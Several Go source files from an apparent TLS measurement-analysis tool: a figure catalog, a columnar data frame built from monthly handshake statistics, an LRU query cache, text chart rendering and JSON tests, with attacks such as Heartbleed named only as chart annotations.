			{"AES128-GCM", overTotal(func(f *Frame) []int { return f.AdvAESGCM128 })},
			{"AES256-GCM", overTotal(func(f *Frame) []int { return f.AdvAESGCM256 })},
			{"ChaCha20-Poly1305", overTotal(func(f *Frame) []int { return f.AdvChaCha })},
			{"AES-CCM", overTotal(func(f *Frame) []int { return f.AdvCCM })},
		},
	},
	{
		// The §9 "other fascinating insights" figure the paper mentions but
		// had no space for: monthly advertisement of renegotiation_info (the
		// RIE response to the renegotiation attack), encrypt_then_mac (the
		// Lucky 13 response with "very limited take up"), and friends.
		Num: 0, ID: "Figure E1", Name: "extensions",
		Title: "Client-advertised TLS extensions (% connections)",
		Metrics: []MetricSpec{
			{"renegotiation_info", overTotal(extCol(registry.ExtRenegotiationInfo))},
			{"encrypt_then_mac", overTotal(extCol(registry.ExtEncryptThenMAC))},
			{"extended_master_secret", overTotal(extCol(registry.ExtExtendedMasterSecret))},
			{"session_ticket", overTotal(extCol(registry.ExtSessionTicket))},
			{"server_name", overTotal(extCol(registry.ExtServerName))},
			{"heartbeat", overTotal(extCol(registry.ExtHeartbeat))},
			{"supported_versions", overTotal(extCol(registry.ExtSupportedVersions))},
		},
		Events: []string{timeline.EventLucky13, timeline.EventHeartbleed},
	},
}

// Catalog returns every declared figure spec, paper figures first.
func Catalog() []FigureSpec { return catalog }

// SpecByNum finds the paper figure numbered n (1–10).
func SpecByNum(n int) (FigureSpec, bool) {
	for _, s := range catalog {
		if s.Num == n && n != 0 {
			return s, true
		}
	}
	return FigureSpec{}, false
}

// SpecByName finds a spec by catalog name, e.g. "fingerprint-classes".
func SpecByName(name string) (FigureSpec, bool) {
	for _, s := range catalog {
		if s.Name == name {
			return s, true
		}
	}
	return FigureSpec{}, false
}

// --- the engine ---

// EvalFigure evaluates one spec against the frame: every metric becomes a
// series with one point per month on the frame's axis. The produced Series
// share the frame's month index, making Series.Value O(1).
func (f *Frame) EvalFigure(spec FigureSpec) Figure {
	fig := Figure{
		ID:     spec.ID,
		Title:  spec.Title,
		Series: make([]Series, 0, len(spec.Metrics)),
		Events: attackEvents(spec.Events...),
	}
	for _, m := range spec.Metrics {
		vals := m.Eval(f)
		pts := make([]Point, len(vals))
		for i, v := range vals {
			pts[i] = Point{Month: f.Months[i], Value: v}
		}
		fig.Series = append(fig.Series, Series{Name: m.Name, Points: pts, index: f.index})
	}
	return fig
}

// Figures evaluates the ten paper figures in order.
func (f *Frame) Figures() []Figure {
	out := make([]Figure, 0, 10)
	for _, spec := range catalog {
		if spec.Num != 0 {
			out = append(out, f.EvalFigure(spec))
		}
	}
	return out
}

// FigureByNum evaluates paper figure n (1–10).
func (f *Frame) FigureByNum(n int) (Figure, bool) {
	spec, ok := SpecByNum(n)
	if !ok {
		return Figure{}, false
	}
	return f.EvalFigure(spec), true
}

// FigureByName evaluates the catalog figure with the given name.
func (f *Frame) FigureByName(name string) (Figure, bool) {
	spec, ok := SpecByName(name)
	if !ok {
		return Figure{}, false
	}
	return f.EvalFigure(spec), true
}
