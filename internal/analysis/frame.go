package analysis

import (
	"fmt"
	"sort"
	"sync"

	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// TopKFingerprints caps how many per-fingerprint columns a frame carries.
// Real windows see tens of thousands of distinct fingerprints with a heavy
// head (§4); materializing a dense column per fingerprint would dwarf every
// other family, so the frame keeps the K highest-volume fingerprints and
// folds the tail into the FPOtherKey bucket. fp:* therefore still sums to
// the exact fingerprinted-connection total.
const TopKFingerprints = 32

// FPOtherKey is the fp: column absorbing every fingerprint outside the
// top K, keeping the family's wildcard sum exact.
const FPOtherKey = "other"

// FPID derives the stable 12-hex-digit column key for a fingerprint string.
// Raw fingerprints contain '|' and ',', which the query grammar rejects, so
// the fp: family is keyed by this FNV-1a-derived ID instead; Frame.FPNames
// maps IDs back to full strings for presentation.
func FPID(fp string) string {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(fp); i++ {
		h ^= uint64(fp[i])
		h *= prime64
	}
	return fmt.Sprintf("%012x", h&(1<<48-1))
}

// Frame is a columnar, immutable snapshot of a notary.Aggregate: a sorted
// month axis plus one dense per-month column for every counter the analysis
// layer queries. It is built in a single pass over the aggregate and is the
// substrate every figure, scalar and impact metric evaluates against —
// instead of ten figure constructors each re-walking the per-month maps, the
// maps are walked once here and the queries become slice scans.
//
// Keyed columns (versions, classes, key exchanges, curves, extensions,
// TLS 1.3 variants) live in maps from key to a dense []int aligned with
// Months; a key absent from the map means the counter was zero everywhere.
// Derived columns that used to be recomputed per series — the negotiated
// suite-class totals of Figure 9 and the forward-secret key-exchange total —
// are classified once at build time.
//
// A Frame never mutates after NewFrame returns, so it is safe to share
// across goroutines and to cache: Generation records the aggregate
// generation it snapshotted, letting holders detect staleness while the
// aggregate keeps ingesting (the live-service read path).
type Frame struct {
	// Months is the sorted month axis; every column below has len(Months).
	Months []timeline.Month
	// index maps a month to its row, shared with every Series the frame
	// builds so Series.Value is O(1).
	index map[timeline.Month]int
	// generation is the aggregate generation this frame snapshotted.
	generation uint64
	// fingerprint hashes the frame's layout (generation, month axis, keyed
	// column sets), computed once at build time — the cheap revalidation
	// token for compiled plans (Plan.ValidFor).
	fingerprint uint64

	// planOnce/plans memoize compiled plans for the package's static
	// expressions (figure catalog, impact metrics, passive scalars), built
	// lazily on first catalog evaluation and keyed by expression identity.
	// Memoization is the only post-build write; it is guarded by the Once,
	// so the frame stays safe to share across goroutines.
	planOnce sync.Once
	plans    map[*Expr]*Plan

	// Denominators.
	Total       []int // all observed hellos
	Established []int // established connections

	// Negotiated parameters, one dense column per observed key.
	Version      map[registry.Version][]int
	Class        map[string][]int
	Kex          map[registry.KeyExchange][]int
	Curve        map[registry.CurveID][]int
	Extension    map[registry.ExtensionID][]int
	TLS13Variant map[registry.Version][]int

	// Client advertisement counters.
	AdvRC4, AdvDES, Adv3DES, AdvAEAD               []int
	AdvExport, AdvAnon, AdvNULL                    []int
	AdvAESGCM128, AdvAESGCM256, AdvChaCha, AdvCCM  []int
	AdvTLS13                                       []int
	OffersHeartbeat, HeartbeatAck                  []int
	NULLNegotiated, AnonNegotiated                 []int
	ExportNegotiated, UnofferedChoice, SSLv2Hellos []int

	// Figure 5 relative-position accumulators, per suite class.
	PosSum   map[string][]float64
	PosCount map[string][]int

	// Fingerprint capability counts (Figure 4): distinct fingerprints per
	// month and how many of them advertise each class.
	FPTotal                      []int
	FPRC4, FPDES, FP3DES, FPAEAD []int

	// Fingerprint attribution (§4 / Table 2). FPConns is the per-month
	// volume of fingerprint-bearing connections (the fp: family denominator,
	// named column "fp-conns"). FPCol carries one dense volume column per
	// top-K fingerprint — ranked by whole-window volume, keyed by FPID —
	// plus the FPOtherKey bucket absorbing everything past the cap, so the
	// family stays dense no matter how many distinct fingerprints the window
	// saw. FPNames maps each top-K FPID back to its full fingerprint string.
	// Agent holds attributed volume per client class (from the aggregate's
	// classifier), keyed by the clientdb class name.
	FPConns    []int
	FPCol      map[string][]int
	FPNames    map[string]string
	Agent      map[string][]int
	fpDistinct int

	// Build-time suite classification (Figure 9): negotiated connections per
	// AEAD family, from one SuiteByID pass over the union of observed suites.
	NegAEAD, NegGCM128, NegGCM256, NegChaCha []int

	// KexForwardSecret sums the forward-secret key exchanges (§6.3.1),
	// classified once at build time.
	KexForwardSecret []int
}

// negClass is the build-time classification of one negotiated suite ID.
type negClass uint8

const (
	negAEAD negClass = 1 << iota
	negGCM128
	negGCM256
	negChaCha
)

// classifyNegSuite resolves one suite ID's figure classes. Each distinct ID
// is classified once per frame build; the result is cached in NewFrame.
func classifyNegSuite(id uint16) negClass {
	s, ok := registry.SuiteByID(id)
	if !ok {
		return 0
	}
	var c negClass
	if s.IsAEAD() {
		c |= negAEAD
	}
	if s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES128 {
		c |= negGCM128
	}
	if s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES256 {
		c |= negGCM256
	}
	if s.Cipher == registry.CipherChaCha20 {
		c |= negChaCha
	}
	return c
}

// col returns the dense column for key k in m, allocating it on first use.
func col[K comparable](m map[K][]int, k K, n int) []int {
	c, ok := m[k]
	if !ok {
		c = make([]int, n)
		m[k] = c
	}
	return c
}

// NewFrame snapshots agg into a columnar frame in one chronological pass.
func NewFrame(agg *notary.Aggregate) *Frame {
	n := agg.NumMonths()
	ints := func() []int { return make([]int, n) }
	f := &Frame{
		Months:     make([]timeline.Month, 0, n),
		index:      make(map[timeline.Month]int, n),
		generation: agg.Generation(),

		Total:       ints(),
		Established: ints(),

		Version:      make(map[registry.Version][]int),
		Class:        make(map[string][]int),
		Kex:          make(map[registry.KeyExchange][]int),
		Curve:        make(map[registry.CurveID][]int),
		Extension:    make(map[registry.ExtensionID][]int),
		TLS13Variant: make(map[registry.Version][]int),

		AdvRC4: ints(), AdvDES: ints(), Adv3DES: ints(), AdvAEAD: ints(),
		AdvExport: ints(), AdvAnon: ints(), AdvNULL: ints(),
		AdvAESGCM128: ints(), AdvAESGCM256: ints(), AdvChaCha: ints(), AdvCCM: ints(),
		AdvTLS13:        ints(),
		OffersHeartbeat: ints(), HeartbeatAck: ints(),
		NULLNegotiated: ints(), AnonNegotiated: ints(),
		ExportNegotiated: ints(), UnofferedChoice: ints(), SSLv2Hellos: ints(),

		PosSum:   make(map[string][]float64),
		PosCount: make(map[string][]int),

		FPTotal: ints(),
		FPRC4:   ints(), FPDES: ints(), FP3DES: ints(), FPAEAD: ints(),

		FPConns: ints(),
		FPCol:   make(map[string][]int),
		FPNames: make(map[string]string),
		Agent:   make(map[string][]int),

		NegAEAD: ints(), NegGCM128: ints(), NegGCM256: ints(), NegChaCha: ints(),

		KexForwardSecret: ints(),
	}

	suiteClasses := make(map[uint16]negClass)
	fpVols := make(map[string]int)         // whole-window volume per fingerprint
	fpRows := make([]map[string]int, 0, n) // per-row ByFingerprint, aligned with Months
	row := 0
	agg.EachMonth(func(ms *notary.MonthStats) {
		i := row
		row++
		f.Months = append(f.Months, ms.Month)
		f.index[ms.Month] = i

		f.Total[i] = ms.Total
		f.Established[i] = ms.Established

		for v, c := range ms.ByVersion {
			col(f.Version, v, n)[i] = c
		}
		for cl, c := range ms.ByClass {
			col(f.Class, cl, n)[i] = c
		}
		for k, c := range ms.ByKex {
			col(f.Kex, k, n)[i] = c
			if k.ForwardSecret() {
				f.KexForwardSecret[i] += c
			}
		}
		for cv, c := range ms.ByCurve {
			col(f.Curve, cv, n)[i] = c
		}
		for e, c := range ms.ByExtension {
			col(f.Extension, e, n)[i] = c
		}
		for v, c := range ms.TLS13Variant {
			col(f.TLS13Variant, v, n)[i] = c
		}

		f.AdvRC4[i] = ms.AdvRC4
		f.AdvDES[i] = ms.AdvDES
		f.Adv3DES[i] = ms.Adv3DES
		f.AdvAEAD[i] = ms.AdvAEAD
		f.AdvExport[i] = ms.AdvExport
		f.AdvAnon[i] = ms.AdvAnon
		f.AdvNULL[i] = ms.AdvNULL
		f.AdvAESGCM128[i] = ms.AdvAESGCM128
		f.AdvAESGCM256[i] = ms.AdvAESGCM256
		f.AdvChaCha[i] = ms.AdvChaCha
		f.AdvCCM[i] = ms.AdvCCM
		f.AdvTLS13[i] = ms.AdvTLS13
		f.OffersHeartbeat[i] = ms.OffersHeartbeatN
		f.HeartbeatAck[i] = ms.HeartbeatAckN
		f.NULLNegotiated[i] = ms.NULLNegotiated
		f.AnonNegotiated[i] = ms.AnonNegotiated
		f.ExportNegotiated[i] = ms.ExportNegotiated
		f.UnofferedChoice[i] = ms.UnofferedChoice
		f.SSLv2Hellos[i] = ms.SSLv2Hellos

		for cl, s := range ms.PosSum {
			c, ok := f.PosSum[cl]
			if !ok {
				c = make([]float64, n)
				f.PosSum[cl] = c
			}
			c[i] = s
		}
		for cl, cnt := range ms.PosCount {
			col(f.PosCount, cl, n)[i] = cnt
		}

		fpRows = append(fpRows, ms.ByFingerprint)
		for fp, c := range ms.ByFingerprint {
			fpVols[fp] += c
			f.FPConns[i] += c
		}
		for class, c := range ms.ByClientClass {
			col(f.Agent, class, n)[i] = c
		}

		for _, caps := range ms.FPs {
			f.FPTotal[i]++
			if caps.RC4 {
				f.FPRC4[i]++
			}
			if caps.DES {
				f.FPDES[i]++
			}
			if caps.TDES {
				f.FP3DES[i]++
			}
			if caps.AEAD {
				f.FPAEAD[i]++
			}
		}

		for id, c := range ms.BySuite {
			nc, seen := suiteClasses[id]
			if !seen {
				nc = classifyNegSuite(id)
				suiteClasses[id] = nc
			}
			if nc&negAEAD != 0 {
				f.NegAEAD[i] += c
			}
			if nc&negGCM128 != 0 {
				f.NegGCM128[i] += c
			}
			if nc&negGCM256 != 0 {
				f.NegGCM256[i] += c
			}
			if nc&negChaCha != 0 {
				f.NegChaCha[i] += c
			}
		}
	})
	f.buildFPColumns(fpVols, fpRows, n)
	f.fingerprint = f.computeFingerprint()
	return f
}

// buildFPColumns materializes the fp: family from the per-month volumes
// collected during the aggregate pass: rank all fingerprints by whole-window
// volume (ties broken by fingerprint string, so the column set is fully
// deterministic), give the top K their own dense columns keyed by FPID, and
// fold everything past the cap into the FPOtherKey bucket.
func (f *Frame) buildFPColumns(fpVols map[string]int, fpRows []map[string]int, n int) {
	f.fpDistinct = len(fpVols)
	if len(fpVols) == 0 {
		return
	}
	ranked := make([]string, 0, len(fpVols))
	for fp := range fpVols {
		ranked = append(ranked, fp)
	}
	sort.Slice(ranked, func(i, j int) bool {
		if fpVols[ranked[i]] != fpVols[ranked[j]] {
			return fpVols[ranked[i]] > fpVols[ranked[j]]
		}
		return ranked[i] < ranked[j]
	})
	top := make(map[string]string, TopKFingerprints) // fingerprint -> column key
	for r, fp := range ranked {
		if r >= TopKFingerprints {
			break
		}
		id := FPID(fp)
		top[fp] = id
		f.FPNames[id] = fp
	}
	for i, byFP := range fpRows {
		for fp, c := range byFP {
			if id, ok := top[fp]; ok {
				col(f.FPCol, id, n)[i] += c
			} else {
				col(f.FPCol, FPOtherKey, n)[i] += c
			}
		}
	}
}

// FingerprintGauges reports the fp: family's shape for observability:
// distinct fingerprints in the window, the column cap, and the share of
// fingerprinted volume folded into the FPOtherKey bucket (percent).
func (f *Frame) FingerprintGauges() (distinct, topK int, otherShare float64) {
	if total := sumCol(f.FPConns); total > 0 {
		otherShare = 100 * float64(sumCol(f.FPCol[FPOtherKey])) / float64(total)
	}
	return f.fpDistinct, TopKFingerprints, otherShare
}

// computeFingerprint hashes the layout a compiled plan binds to: the
// generation, the month axis, and how many columns each keyed family holds.
// Equal generations within one study imply equal content (generations count
// ingested records), so an equal fingerprint means a plan's bound columns
// hold the same values. FNV-1a, O(months + families).
func (f *Frame) computeFingerprint() uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	mix := func(v uint64) {
		for i := 0; i < 8; i++ {
			h ^= v & 0xff
			h *= prime64
			v >>= 8
		}
	}
	mix(f.generation)
	mix(uint64(len(f.Months)))
	for _, m := range f.Months {
		mix(uint64(m.Index()))
	}
	mix(uint64(len(f.Version)))
	mix(uint64(len(f.Class)))
	mix(uint64(len(f.Kex)))
	mix(uint64(len(f.Curve)))
	mix(uint64(len(f.Extension)))
	mix(uint64(len(f.TLS13Variant)))
	mix(uint64(len(f.PosSum)))
	mix(uint64(len(f.PosCount)))
	mix(uint64(len(f.FPCol)))
	mix(uint64(len(f.Agent)))
	return h
}

// Fingerprint returns the frame's layout fingerprint (see Plan.ValidFor).
func (f *Frame) Fingerprint() uint64 { return f.fingerprint }

// sharedPlans returns the memoized compiled plans for the package's static
// expressions — every catalog metric, impact metric and passive scalar —
// compiling them on first use. Static expressions cannot fail compilation
// (they are validated at package init), so a failure here is a programming
// error.
func (f *Frame) sharedPlans() map[*Expr]*Plan {
	f.planOnce.Do(func() {
		plans := make(map[*Expr]*Plan, 64)
		add := func(e *Expr) {
			p, err := Compile(e, f)
			if err != nil {
				panic("analysis: static expression failed to compile: " + err.Error())
			}
			plans[e] = p
		}
		for _, spec := range catalog {
			for _, m := range spec.Metrics {
				add(m.Expr)
			}
		}
		for _, im := range impactMetrics {
			add(im.expr)
		}
		for _, s := range passiveScalarSpecs {
			add(s.Expr)
		}
		for _, e := range conditionalScalarExprs {
			add(e)
		}
		for _, e := range table2Exprs {
			add(e)
		}
		f.plans = plans
	})
	return f.plans
}

// planFor returns the pre-compiled plan for one of the package's static
// expressions, nil for a foreign expression (callers fall back to the
// interpreter).
func (f *Frame) planFor(e *Expr) *Plan { return f.sharedPlans()[e] }

// Len returns the number of months on the frame's axis.
func (f *Frame) Len() int { return len(f.Months) }

// Generation returns the aggregate generation this frame snapshotted;
// compare against Aggregate.Generation to detect staleness.
func (f *Frame) Generation() uint64 { return f.generation }

// Row returns the row index of month m, ok=false when the month is outside
// the frame.
func (f *Frame) Row(m timeline.Month) (int, bool) {
	i, ok := f.index[m]
	return i, ok
}

// at reads column c at row i, treating a nil (never-observed) column as 0.
func at(c []int, i int) int {
	if c == nil {
		return 0
	}
	return c[i]
}

// pctAt returns 100·num/den at row i with the figure convention that an
// empty denominator yields 0. A negative row (month outside the frame) also
// yields 0, matching the old nil-MonthStats behaviour.
func pctAt(num, den []int, i int) float64 {
	if i < 0 || at(den, i) == 0 {
		return 0
	}
	return 100 * float64(at(num, i)) / float64(at(den, i))
}

// sumCol returns the sum of a column, 0 for nil.
func sumCol(c []int) int {
	n := 0
	for _, v := range c {
		n += v
	}
	return n
}
