package analysis

// The generation-keyed query result cache: the third stage of the query
// engine. A frame is immutable and tagged with the generation it was built
// from, so a QueryResult computed against (study, generation) never goes
// stale — it can only become unreachable when the generation advances. That
// makes the cache trivially correct: keys embed the generation (and an
// epoch that study owners bump whenever they replace the aggregate outright,
// guarding against a rebuilt study landing on the same record count), and
// invalidation is just new keys shadowing old ones until the LRU evicts the
// orphans.
//
// One cache is shared across every study a process serves; entries are
// bounded both by count and by an approximate byte budget so a burst of
// distinct queries cannot grow memory without limit.

import (
	"container/list"
	"sync"
)

// QueryCacheStats is a point-in-time snapshot of cache counters, exported
// on /healthz by the service layer.
type QueryCacheStats struct {
	Hits       uint64 `json:"hits"`
	Misses     uint64 `json:"misses"`
	Evictions  uint64 `json:"evictions"`
	Entries    int    `json:"entries"`
	Bytes      int64  `json:"bytes"`
	MaxEntries int    `json:"max_entries"`
	MaxBytes   int64  `json:"max_bytes"`
}

// cacheKey identifies one cached result. The query component is canonical
// text (the parse→format fixpoint), so syntactic variants of the same
// expression share an entry.
type cacheKey struct {
	study      string
	epoch      uint64
	generation uint64
	query      string
}

// cacheEntry is an LRU element payload. body is the serialized JSON
// response for res (as the service writes it), cached alongside so a hit
// skips json.Marshal on the serving path; nil when the owner never
// materialized one.
type cacheEntry struct {
	key  cacheKey
	res  QueryResult
	body []byte
	size int64
}

// QueryCache is a bounded LRU of QueryResults keyed by
// (study, epoch, generation, canonical query text). All methods are safe
// for concurrent use and safe on a nil receiver (a nil cache never hits,
// making "caching disabled" the zero-configuration path).
type QueryCache struct {
	mu         sync.Mutex
	maxEntries int
	maxBytes   int64
	bytes      int64
	ll         *list.List // front = most recent
	entries    map[cacheKey]*list.Element

	hits, misses, evictions uint64
}

// NewQueryCache builds a cache bounded to maxEntries results and an
// approximate maxBytes of cached points. Bounds ≤ 0 mean unbounded on that
// axis (but at least one bound should be set; the callers always set both).
func NewQueryCache(maxEntries int, maxBytes int64) *QueryCache {
	return &QueryCache{
		maxEntries: maxEntries,
		maxBytes:   maxBytes,
		ll:         list.New(),
		entries:    make(map[cacheKey]*list.Element),
	}
}

// resultSize approximates an entry's memory footprint: struct overhead plus
// the strings, the 24-byte Points and the serialized body.
func resultSize(key cacheKey, res QueryResult, body []byte) int64 {
	const overhead = 160 // key + entry + element bookkeeping, roughly
	return overhead +
		int64(len(key.study)+len(key.query)) +
		int64(len(res.Query)+len(res.Kind)+len(res.Series.Name)) +
		int64(24*len(res.Series.Points)) +
		int64(len(body))
}

// Get returns the cached result and serialized body for the key, marking it
// most recently used. The returned QueryResult is a shallow clone: it shares
// the immutable Points backing array with the cache, so callers must treat
// Series.Points as read-only (every existing consumer — JSON encoding,
// rendering, Series.Value — already does). The body, when non-nil, is
// likewise shared and must not be mutated; it may be nil even on a hit when
// the entry was stored without one.
func (c *QueryCache) Get(study string, epoch, generation uint64, query string) (QueryResult, []byte, bool) {
	if c == nil {
		return QueryResult{}, nil, false
	}
	key := cacheKey{study, epoch, generation, query}
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.entries[key]
	if !ok {
		c.misses++
		return QueryResult{}, nil, false
	}
	c.hits++
	c.ll.MoveToFront(el)
	ent := el.Value.(*cacheEntry)
	return ent.res, ent.body, true
}

// Put stores a result (and optionally its serialized JSON body; nil is
// fine) under the key, evicting least-recently-used entries while either
// bound is exceeded. Storing an oversized single result is a no-op rather
// than a cache flush.
func (c *QueryCache) Put(study string, epoch, generation uint64, query string, res QueryResult, body []byte) {
	if c == nil {
		return
	}
	key := cacheKey{study, epoch, generation, query}
	size := resultSize(key, res, body)
	if c.maxBytes > 0 && size > c.maxBytes {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.entries[key]; ok {
		ent := el.Value.(*cacheEntry)
		c.bytes += size - ent.size
		ent.res, ent.body, ent.size = res, body, size
		c.ll.MoveToFront(el)
	} else {
		c.entries[key] = c.ll.PushFront(&cacheEntry{key: key, res: res, body: body, size: size})
		c.bytes += size
	}
	for c.ll.Len() > 0 &&
		((c.maxEntries > 0 && c.ll.Len() > c.maxEntries) ||
			(c.maxBytes > 0 && c.bytes > c.maxBytes)) {
		c.evictOldest()
	}
}

// evictOldest drops the least-recently-used entry. Callers hold c.mu.
func (c *QueryCache) evictOldest() {
	el := c.ll.Back()
	if el == nil {
		return
	}
	ent := el.Value.(*cacheEntry)
	c.ll.Remove(el)
	delete(c.entries, ent.key)
	c.bytes -= ent.size
	c.evictions++
}

// Stats snapshots the cache counters.
func (c *QueryCache) Stats() QueryCacheStats {
	if c == nil {
		return QueryCacheStats{}
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return QueryCacheStats{
		Hits:       c.hits,
		Misses:     c.misses,
		Evictions:  c.evictions,
		Entries:    c.ll.Len(),
		Bytes:      c.bytes,
		MaxEntries: c.maxEntries,
		MaxBytes:   c.maxBytes,
	}
}
