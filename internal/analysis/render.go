package analysis

import (
	"fmt"
	"io"
	"math"
	"strings"

	"tlsage/internal/timeline"
)

// RenderTable writes the figure as an aligned text table: one row per month,
// one column per series, with attack-event annotations inline.
func (f *Figure) RenderTable(w io.Writer) error {
	if _, err := fmt.Fprintf(w, "%s — %s\n", f.ID, f.Title); err != nil {
		return err
	}
	header := fmt.Sprintf("%-8s", "month")
	for _, s := range f.Series {
		header += fmt.Sprintf(" %18s", s.Name)
	}
	if _, err := fmt.Fprintln(w, header); err != nil {
		return err
	}
	months := f.months()
	eventsByMonth := map[timeline.Month][]string{}
	for _, e := range f.Events {
		m := timeline.MonthOf(e.Date)
		eventsByMonth[m] = append(eventsByMonth[m], e.Name)
	}
	for _, m := range months {
		row := fmt.Sprintf("%-8s", m)
		for _, s := range f.Series {
			if v, ok := s.Value(m); ok {
				row += fmt.Sprintf(" %17.2f%%", v)
			} else {
				row += fmt.Sprintf(" %18s", "-")
			}
		}
		if names := eventsByMonth[m]; len(names) > 0 {
			row += "   ← " + strings.Join(names, ", ")
		}
		if _, err := fmt.Fprintln(w, row); err != nil {
			return err
		}
	}
	return nil
}

// RenderChart writes a compact ASCII chart of the figure (one glyph per
// series) sized width×height, plus a legend.
func (f *Figure) RenderChart(w io.Writer, width, height int) error {
	if width < 20 {
		width = 60
	}
	if height < 5 {
		height = 16
	}
	months := f.months()
	if len(months) == 0 {
		_, err := fmt.Fprintf(w, "%s: no data\n", f.ID)
		return err
	}
	glyphs := []byte{'A', 'C', 'R', 'D', 'T', 'E', 'N', 'x', 'o', '+'}
	grid := make([][]byte, height)
	for i := range grid {
		grid[i] = []byte(strings.Repeat(" ", width))
	}
	maxVal := 0.0
	for _, s := range f.Series {
		for _, p := range s.Points {
			if p.Value > maxVal {
				maxVal = p.Value
			}
		}
	}
	if maxVal <= 0 {
		maxVal = 1
	}
	span := months[len(months)-1].Sub(months[0])
	if span == 0 {
		span = 1
	}
	for si, s := range f.Series {
		g := glyphs[si%len(glyphs)]
		for _, p := range s.Points {
			x := (p.Month.Sub(months[0]) * (width - 1)) / span
			yf := p.Value / maxVal
			y := height - 1 - int(math.Round(yf*float64(height-1)))
			if y < 0 {
				y = 0
			}
			if y >= height {
				y = height - 1
			}
			grid[y][x] = g
		}
	}
	if _, err := fmt.Fprintf(w, "%s — %s  (max %.1f%%)\n", f.ID, f.Title, maxVal); err != nil {
		return err
	}
	for _, row := range grid {
		if _, err := fmt.Fprintf(w, "|%s|\n", string(row)); err != nil {
			return err
		}
	}
	axis := fmt.Sprintf("%s%s%s", months[0], strings.Repeat(" ", max(1, width-14)), months[len(months)-1])
	if _, err := fmt.Fprintln(w, axis); err != nil {
		return err
	}
	legend := make([]string, 0, len(f.Series))
	for si, s := range f.Series {
		legend = append(legend, fmt.Sprintf("%c=%s", glyphs[si%len(glyphs)], s.Name))
	}
	_, err := fmt.Fprintln(w, strings.Join(legend, "  "))
	return err
}

func (f *Figure) months() []timeline.Month {
	seen := map[timeline.Month]bool{}
	var out []timeline.Month
	for _, s := range f.Series {
		for _, p := range s.Points {
			if !seen[p.Month] {
				seen[p.Month] = true
				out = append(out, p.Month)
			}
		}
	}
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j].Before(out[j-1]); j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}
