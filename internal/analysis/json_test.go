package analysis

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"tlsage/internal/timeline"
)

func TestFigureJSONShape(t *testing.T) {
	fig := Figure{
		ID:    "Figure 1",
		Title: "Versions",
		Series: []Series{{
			Name: "TLSv12",
			Points: []Point{
				{Month: timeline.M(2018, time.February), Value: 90.25},
			},
		}},
		Events: attackEvents(timeline.EventPOODLE),
	}
	b, err := json.Marshal(fig)
	if err != nil {
		t.Fatal(err)
	}
	var decoded struct {
		ID     string `json:"id"`
		Title  string `json:"title"`
		Series []struct {
			Name   string `json:"name"`
			Points []struct {
				Month string  `json:"month"`
				Value float64 `json:"value"`
			} `json:"points"`
		} `json:"series"`
		Events []struct {
			Name string `json:"name"`
			Date string `json:"date"`
		} `json:"events"`
	}
	if err := json.Unmarshal(b, &decoded); err != nil {
		t.Fatal(err)
	}
	if decoded.ID != "Figure 1" || decoded.Title != "Versions" {
		t.Errorf("figure header: %+v", decoded)
	}
	if len(decoded.Series) != 1 || decoded.Series[0].Name != "TLSv12" {
		t.Fatalf("series: %+v", decoded.Series)
	}
	p := decoded.Series[0].Points[0]
	if p.Month != "2018-02" || p.Value != 90.25 {
		t.Errorf("point = %+v, want 2018-02 / 90.25", p)
	}
	if len(decoded.Events) != 1 || decoded.Events[0].Name != timeline.EventPOODLE ||
		!strings.HasPrefix(decoded.Events[0].Date, "2014-10") {
		t.Errorf("events: %+v", decoded.Events)
	}
}

func TestScalarJSONIncludesDeviation(t *testing.T) {
	b, err := json.Marshal(Scalar{ID: "S7a", Name: "x", Paper: 0.5, Measured: 0.75, Unit: "%"})
	if err != nil {
		t.Fatal(err)
	}
	var decoded map[string]any
	if err := json.Unmarshal(b, &decoded); err != nil {
		t.Fatal(err)
	}
	if decoded["id"] != "S7a" || decoded["unit"] != "%" {
		t.Errorf("scalar json: %v", decoded)
	}
	if dev, ok := decoded["deviation"].(float64); !ok || dev != 0.25 {
		t.Errorf("deviation = %v, want 0.25", decoded["deviation"])
	}
}

func TestFigureSpecJSONCarriesSeriesNames(t *testing.T) {
	spec, ok := SpecByName("negotiated-classes")
	if !ok {
		t.Fatal("missing catalog entry")
	}
	b, err := json.Marshal(spec)
	if err != nil {
		t.Fatal(err)
	}
	var decoded struct {
		Num    int      `json:"num"`
		Name   string   `json:"name"`
		Series []string `json:"series"`
		Events []string `json:"events"`
	}
	if err := json.Unmarshal(b, &decoded); err != nil {
		t.Fatal(err)
	}
	if decoded.Num != 2 || decoded.Name != "negotiated-classes" {
		t.Errorf("spec header: %+v", decoded)
	}
	want := []string{"AEAD", "CBC", "RC4"}
	if len(decoded.Series) != len(want) {
		t.Fatalf("series: %v", decoded.Series)
	}
	for i, s := range want {
		if decoded.Series[i] != s {
			t.Errorf("series[%d] = %q, want %q", i, decoded.Series[i], s)
		}
	}
	if len(decoded.Events) == 0 {
		t.Error("catalog events missing from json")
	}
	// The whole catalog must marshal (the service /metrics endpoint).
	if _, err := json.Marshal(Catalog()); err != nil {
		t.Fatalf("catalog marshal: %v", err)
	}
}
