package analysis

import (
	"fmt"
	"reflect"
	"testing"
	"time"

	"tlsage/internal/notary"
	"tlsage/internal/simulate"
	"tlsage/internal/timeline"
)

// requireFigureEqual asserts got reproduces want exactly: same identity,
// same series in the same order, bit-identical point values, same events.
func requireFigureEqual(t *testing.T, want, got Figure) {
	t.Helper()
	if got.ID != want.ID || got.Title != want.Title {
		t.Fatalf("figure identity: got %q/%q, want %q/%q", got.ID, got.Title, want.ID, want.Title)
	}
	if len(got.Series) != len(want.Series) {
		t.Fatalf("%s: %d series, want %d", want.ID, len(got.Series), len(want.Series))
	}
	for i := range want.Series {
		ws, gs := want.Series[i], got.Series[i]
		if gs.Name != ws.Name {
			t.Fatalf("%s series %d: name %q, want %q", want.ID, i, gs.Name, ws.Name)
		}
		if len(gs.Points) != len(ws.Points) {
